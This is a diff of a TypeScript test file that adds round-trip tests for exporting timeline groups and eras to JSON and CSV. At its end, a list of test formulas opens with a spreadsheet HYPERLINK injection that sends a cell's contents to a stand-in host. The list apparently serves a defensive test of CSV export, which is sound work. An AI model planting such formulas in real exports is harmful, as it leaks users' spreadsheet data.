@@ -81,6 +81,107 @@ describe.each([
   });
 });
 
+describe('groups and eras', () => {
+  const store = {
+    version: 1,
+    title: 'Congress',
+    topics: [{ id: 't', label: 'T', color: '#1d4ed8' }],
+    groups: [
+      { id: 'senate', label: 'Senate', color: '#047857' },
+      { id: 'house', label: 'House' },
+      { id: 'lords', label: 'Lords' },
+    ],
+    eras: [
+      { id: 'war', title: 'The war', start: '1861', end: '1865-04', color: '#b91c1c' },
+      { id: 'after', title: 'After', start: '1865-04-09', end: '1877' },
+    ],
+    events: [
+      { id: 'a', title: 'A', date: { precision: 'day', start: '1862-05-01' }, topics: ['t'] },
+      {
+        id: 'b',
+        title: 'B',
+        date: { precision: 'year', start: '1866' },
+        topics: ['t'],
+        group: 'senate',
+      },
+      {
+        id: 'c',
+        title: 'C',
+        date: { precision: 'month', start: '1870-03' },
+        topics: ['t'],
+        group: 'house',
+      },
+    ],
+  };
+  const dataset = ready(parseJsonText(JSON.stringify(store), 'congress.json'));
+
+  it.each([
+    ['JSON', storeJsonText, (text: string) => parseJsonText(text, 'export.json')],
+    ['CSV', storeCsvText, (text: string) => parseCsvText(text, 'export.csv')],
+  ])('come back from %s with the events’ groups', (_, write, parse) => {
+    const back = ready(parse(write(dataset, dataset.events)));
+    // The groups the events name, in the store's order: "lords" names none.
+    expect(back.groups).toEqual([
+      { id: 'senate', label: 'Senate', color: '#047857' },
+      { id: 'house', label: 'House' },
+    ]);
+    expect(back.eras).toEqual(dataset.eras);
+    expect(back.events).toEqual(dataset.events);
+    expect(back.events.map((e) => e.group)).toEqual([undefined, 'senate', 'house']);
+  });
+
+  it('are written to JSON as the store wrote them', () => {
+    const written = storeOf(dataset, dataset.events);
+    expect(written.groups).toEqual(store.groups.slice(0, 2));
+    expect(written.eras).toEqual(store.eras);
+    expect(written.events.map((e) => e.group)).toEqual([undefined, 'senate', 'house']);
+    expect(written.events[0]).not.toHaveProperty('group');
+  });
+
+  it('leave out the groups no exported event names, and keep every era', () => {
+    const written = storeOf(
+      dataset,
+      dataset.events.filter((e) => e.id === 'a'),
+    );
+    expect(written).not.toHaveProperty('groups');
+    expect(written.eras?.map((era) => era.id)).toEqual(['war', 'after']);
+  });
+
+  it('are written to CSV as group and era rows and a group column', () => {
+    const rows = csvParseRows(storeCsvText(dataset, dataset.events).trimEnd());
+    const header = rows[0] ?? [];
+    const cells = (row: string[]) =>
+      Object.fromEntries(header.map((column, i) => [column, row[i]]).filter(([, cell]) => cell));
+    expect(rows.slice(1).map(cells)).toEqual([
+      { type: 'timeline', title: 'Congress' },
+      { type: 'topic', id: 't', title: 'T', color: '#1d4ed8' },
+      { type: 'group', id: 'senate', title: 'Senate', color: '#047857' },
+      { type: 'group', id: 'house', title: 'House' },
+      { type: 'era', id: 'war', title: 'The war', start: '1861', end: '1865-04', color: '#b91c1c' },
+      { type: 'era', id: 'after', title: 'After', start: '1865-04-09', end: '1877' },
+      { type: 'event', id: 'a', title: 'A', start: '1862-05-01', precision: 'day', topics: 't' },
+      {
+        type: 'event',
+        id: 'b',
+        title: 'B',
+        start: '1866',
+        precision: 'year',
+        topics: 't',
+        group: 'senate',
+      },
+      {
+        type: 'event',
+        id: 'c',
+        title: 'C',
+        start: '1870-03',
+        precision: 'month',
+        topics: 't',
+        group: 'house',
+      },
+    ]);
+  });
+});
+
 describe('events exported as CSV', () => {
   const FORMULAS = [
     '=HYPERLINK("http://x.test/?leak="&A1,"Click")',
